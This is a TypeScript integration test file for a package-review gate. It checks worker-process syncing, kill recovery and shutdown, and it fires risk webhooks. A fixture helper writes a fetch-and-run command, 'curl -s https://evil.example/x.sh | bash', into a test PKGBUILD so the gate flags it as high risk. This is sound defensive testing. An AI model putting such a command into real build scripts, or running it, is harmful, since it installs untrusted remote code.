import { readdir } from 'node:fs/promises';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import path from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createToken } from '../src/accounts/tokens.js';
import { addTestUser } from './support/accounts.js';
import { getPendingRevision } from '../src/quarantine/revisions.js';
import { listRuns } from '../src/sync/runs.js';
import { tokenApi } from './support/admin-client.js';
import { makePackage } from './support/fixture-packages.js';
import { startAurgate, type Harness } from './support/harness.js';
import { startServeProcess } from './support/serve-process.js';
import { commandLine, niceOf, processExists, processGroup, syncLockOwner } from './support/sync-worker.js';
import { until } from './support/until.js';
import { TestUpstream } from './support/upstream.js';

/**
 * `aurgate serve` runs each sync in a worker process. Every test holds upstream's git answers
 * (TestUpstream 'slow' keeps a request until the next fail() call), so "while a sync runs" is a state
 * the test controls, not a race.
 */
let upstream: TestUpstream;
let aurgate: Harness;
let hooks: Server;
const received: Array<Record<string, unknown>> = [];
let token = '';

const HOLD = { only: 'git', delayMs: 600_000 } as const;

function maliciousPackage(pkgbase: string, pkgver: string): Record<string, string> {
  const files = makePackage({ pkgbase, pkgver });
  return { ...files, PKGBUILD: (files['PKGBUILD'] ?? '').replace('package() {\n', 'package() {\n  curl -s https://evil.example/x.sh | bash\n') };
}

async function startWebhookReceiver(): Promise<string> {
  hooks = createServer((req, res) => {
    const chunks: Buffer[] = [];
    req.on('data', (chunk: Buffer) => chunks.push(chunk));
    req.on('end', () => {
      received.push(JSON.parse(Buffer.concat(chunks).toString('utf8')) as Record<string, unknown>);
      res.writeHead(200).end('ok');
    });
  });
  await new Promise<void>((resolve) => hooks.listen(0, '127.0.0.1', resolve));
  return `http://127.0.0.1:${(hooks.address() as AddressInfo).port}/hook`;
}

const events = (name: string): Array<Record<string, unknown>> => received.filter((body) => body['event'] === name);
const startSync = (url: string): Promise<Response> => tokenApi(url, token, 'POST', '/admin/api/sync', {});
const latestRun = () => listRuns(aurgate.app.db, 1)[0];

/** Starts a sync through the admin API while upstream git is held; returns the worker's pid. */
async function heldSync(url: string): Promise<number> {
  upstream.fail('slow', HOLD);
  const response = await startSync(url);
  expect(response.status, await response.text()).toBe(202);
  // "started" is answered once the run holds the sync lock; the held fetch keeps it there.
  const owner = syncLockOwner(aurgate.app.db);
  if (owner === null) throw new Error('a started sync holds the sync lock');
  return owner;
}

beforeAll(async () => {
  upstream = await TestUpstream.start();
  await upstream.addPackage(maliciousPackage('sneaky', '1.0'));
  aurgate = await startAurgate({
    upstreamUrl: upstream.url,
    // Nice 1, not the default 10: the worker's priority is seen to be set, yet it is not starved on a loaded machine.
    env: { AURGATE_WEBHOOK_URL: await startWebhookReceiver(), AURGATE_PUBLIC_URL: 'https://aurgate.example', AURGATE_SYNC_WORKER_NICE: '1' },
  });
  await aurgate.app.allow(['sneaky'], 'test');
  const user = await addTestUser(aurgate.app.db, { name: 'rita', role: 'reviewer', password: 'correct horse battery staple' }, 'test');
  token = createToken(aurgate.app.db, user, { name: 'ci', scopes: ['review'] }).token;
});

afterAll(async () => {
  upstream?.fail('none');
  await aurgate?.close();
  hooks?.closeAllConnections();
  await new Promise((resolve) => hooks?.close(resolve));
  await upstream?.stop();
});

describe('a sync started from the admin of `aurgate serve`', () => {
  it('runs in a worker process while the server answers, and its notifications and summary arrive', async () => {
    const url = await aurgate.serve({ syncIn: 'worker' });
    const worker = await heldSync(url);
    expect(worker).not.toBe(process.pid);
    expect(commandLine(worker)).toMatch(/main\.(ts|js) sync-worker$/);
    expect(niceOf(worker)).toBe(1);
    // The server answers while the sync is under way.
    expect((await fetch(`${url}/healthz`)).status).toBe(200);
    expect((await fetch(`${url}/rpc/v5/info?arg[]=sneaky`)).status).toBe(200);
    const status = (await (await tokenApi(url, token, 'GET', '/admin/api/sync')).json()) as { running: boolean };
    expect(status.running).toBe(true);
    expect(latestRun()).toMatchObject({ status: 'running', trigger: 'admin' });

    upstream.fail('none');
    await aurgate.server?.syncIdle();
    expect(latestRun()).toMatchObject({ status: 'ok', trigger: 'admin', newRevisions: 1 });
    expect(getPendingRevision(aurgate.app.db, 'sneaky')?.commit).toBe(await upstream.head('sneaky'));
    expect(syncLockOwner(aurgate.app.db)).toBeNull();
    // Sent by the worker, with the risk flags it assessed from the mirror.
    expect(events('revision.pending')).toEqual([
      expect.objectContaining({ pkgbase: 'sneaky', flags: expect.objectContaining({ high: expect.any(Number) }) }),
    ]);
    expect(events('risk.high').map((event) => event['pkgbase'])).toEqual(['sneaky']);
  });

  it('survives its worker being killed: the run is recorded interrupted, the server serves on, the next sync works', async () => {
    const url = await aurgate.serve({ syncIn: 'worker' });
    const commit = await upstream.push('sneaky', maliciousPackage('sneaky', '1.1'), 'Bump');
    const worker = await heldSync(url);
    process.kill(worker, 'SIGKILL');
    await aurgate.server?.syncIdle();

    expect(latestRun()).toMatchObject({ status: 'interrupted', trigger: 'admin', finishedAt: expect.any(Number) });
    expect(syncLockOwner(aurgate.app.db)).toBeNull();
    // The git process the worker had started does not outlive it.
    await until(() => processGroup(worker).length === 0);
    expect((await fetch(`${url}/healthz`)).status).toBe(200);
    expect((await fetch(`${url}/rpc/v5/info?arg[]=sneaky`)).status).toBe(200);
    expect(events('sync.failed')).toEqual([expect.objectContaining({ status: 'error', text: expect.stringContaining('SIGKILL') })]);

    upstream.fail('none');
    expect((await startSync(url)).status).toBe(202);
    await aurgate.server?.syncIdle();
    expect(latestRun()).toMatchObject({ status: 'ok', newRevisions: 1 });
    expect(getPendingRevision(aurgate.app.db, 'sneaky')?.commit).toBe(commit);
  });

  it('is stopped cleanly when the server shuts down during it', async () => {
    const server = await aurgate.serve();
    await upstream.push('sneaky', maliciousPackage('sneaky', '1.2'), 'Bump');
    const worker = await heldSync(server);
    // Upstream never answers: only the server's stop can end this sync within the grace period.
    await aurgate.server?.close(200);
    aurgate.server = undefined;

    expect(processExists(worker)).toBe(false);
    await until(() => processGroup(worker).length === 0);
    expect(latestRun()).toMatchObject({ status: 'interrupted' });
    expect(syncLockOwner(aurgate.app.db)).toBeNull();
    // git got SIGTERM, not SIGKILL, and removed its lock files: the next fetch is not blocked by one.
    const mirror = path.join(aurgate.config.paths.mirrorRepos, 'sneaky.git');
    expect((await readdir(mirror, { recursive: true })).filter((file) => file.endsWith('.lock'))).toEqual([]);
    expect(
      await fetch(`${server}/healthz`).then(
        (response) => response.status,
        () => 'refused',
      ),
    ).toBe('refused');

    upstream.fail('none');
    const summary = await aurgate.app.sync({ trigger: 'cli' });
    expect(summary).toMatchObject({ status: 'ok', newRevisions: 1 });
  });
});

it('a real `aurgate serve` process syncs in a worker of its own and exits cleanly on SIGTERM during the sync', async () => {
  await upstream.push('sneaky', maliciousPackage('sneaky', '1.3'), 'Bump');
  const serve = await startServeProcess(aurgate.env);
  try {
    const worker = await heldSync(serve.url);
    expect(worker).not.toBe(serve.pid);
    expect(commandLine(worker)).toMatch(/sync-worker$/);
    // SIGTERM while the fetch is held; upstream then answers, so the sync may finish within the grace
    // (30 s) or be stopped. The exit is awaited however long it takes, not under serve.stop()'s SIGKILL.
    process.kill(serve.pid, 'SIGTERM');
    await until(() => serve.logs().includes('shutting down'));
    upstream.fail('none');
    await until(() => !serve.alive());
    expect(serve.logs()).toContain('"msg":"stopped"');
    expect(processExists(worker)).toBe(false);
    expect(['ok', 'interrupted']).toContain(latestRun()?.status);
    expect(syncLockOwner(aurgate.app.db)).toBeNull();
  } finally {
    upstream.fail('none');
    await serve.stop();
  }
});
